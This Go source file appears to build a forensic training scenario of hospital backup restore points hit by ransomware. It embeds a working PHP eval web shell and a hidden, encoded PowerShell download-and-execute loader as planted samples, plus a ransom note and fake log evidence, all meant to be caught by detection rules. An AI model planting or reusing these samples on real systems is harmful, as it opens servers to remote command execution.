package backups

import (
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
)

// Implant is the attacker's tool planted in one restore point (a
// PowerShell loader); rules/cert-sante-iocs.txt lists its SHA-256, as a CERT
// feed would.
const Implant = "# scheduled task payload\r\npowershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\r\n"

// WebShell is a PHP web shell planted in one restore point; the YARA rule
// in rules/webshells.yar catches it.
const WebShell = "<?php if(isset($_POST['c'])){ @eval($_POST['c']); } ?>\n"

// point is one restore point of a component: what it holds besides a
// copy of the component's archive.
type point struct {
	component, id string
	archive       bool              // holds the component's archive (a usable backup)
	files         map[string]string // extra files, relative path → content
	randomFiles   int               // files of random bytes named *.locked (the ransomware's work)
}

// points are the restore points the demo's four backed-up databases
// offer, newest first in each (times are in graph.yaml): RIS's newest is
// encrypted, pharmacy's second newest holds the implant (its newest was
// taken after the incident was detected), the patient record's newest
// holds a web shell, admissions' newest is clean.
var points = []point{
	{component: "ris", id: "ris-0820", randomFiles: 12, files: map[string]string{"RESTORE-MY-FILES.txt": ransomNote}},
	{component: "ris", id: "ris-0819", archive: true, files: map[string]string{"exports/worklist.csv": worklist}},
	{component: "ris", id: "ris-0818", archive: true, files: map[string]string{"exports/worklist.csv": worklist}},
	{component: "pharmacy", id: "pharmacy-0821", archive: true},
	{component: "pharmacy", id: "pharmacy-0820", archive: true, files: map[string]string{"Windows/Tasks/svc-update.ps1": Implant}},
	{component: "pharmacy", id: "pharmacy-0819", archive: true},
	{component: "dpi", id: "dpi-0820", archive: true, files: map[string]string{"portal/uploads/img_2231.php": WebShell}},
	{component: "dpi", id: "dpi-0819", archive: true},
	{component: "gam", id: "gam-0820", archive: true},
	{component: "gam", id: "gam-0819", archive: true},
}

const ransomNote = "Your files are encrypted. To recover them, contact us within 72 hours.\n"

var worklist = strings.Repeat("2022-08-19;CT;scanner-1;patient;booked\n", 50)

// BuildPoints writes the restore points into dir (replacing it) from the
// archives in out (Build's output). Everything is deterministic.
func BuildPoints(out, dir string) error {
	tmp := dir + ".tmp"
	if err := os.RemoveAll(tmp); err != nil {
		return err
	}
	rng := rand.New(rand.NewPCG(20, 8))
	for _, p := range points {
		base := filepath.Join(tmp, p.component, p.id)
		if err := os.MkdirAll(base, 0o755); err != nil {
			return err
		}
		if p.archive {
			name := p.component + ".tar.gz"
			if err := copyFile(filepath.Join(out, name), filepath.Join(base, name)); err != nil {
				return fmt.Errorf("restore point %s: %w", p.id, err)
			}
		}
		for rel, content := range p.files {
			dst := filepath.Join(base, filepath.FromSlash(rel))
			if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
				return err
			}
			if err := os.WriteFile(dst, []byte(content), 0o644); err != nil {
				return err
			}
		}
		for k := range p.randomFiles {
			b := make([]byte, 16<<10)
			for i := range b {
				b[i] = byte(rng.Uint32())
			}
			if err := os.WriteFile(filepath.Join(base, fmt.Sprintf("ris-export-%02d.db.locked", k)), b, 0o644); err != nil {
				return err
			}
		}
	}
	// The attacked machines' disks, as the investigators find them: the
	// evidence nodes image them before the machines are reimaged.
	for rel, content := range map[string]string{
		"attacked/dc01/Windows/System32/winevt/Logs/Security.evtx": "4624 logon admin-t0 from 10.20.3.17\n4672 special privileges\n1102 audit log cleared\n",
		"attacked/dc01/RESTORE-MY-FILES.txt":                       ransomNote,
		"attacked/ws-admin-01/Users/admin/NTUSER.DAT":              "regf hive: RunOnce svc-update.ps1\n",
		"attacked/ws-admin-01/Windows/Tasks/svc-update.ps1":        Implant,
	} {
		dst := filepath.Join(tmp, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
			return err
		}
		if err := os.WriteFile(dst, []byte(content), 0o644); err != nil {
			return err
		}
	}
	if err := os.RemoveAll(dir); err != nil {
		return err
	}
	return os.Rename(tmp, dir)
}
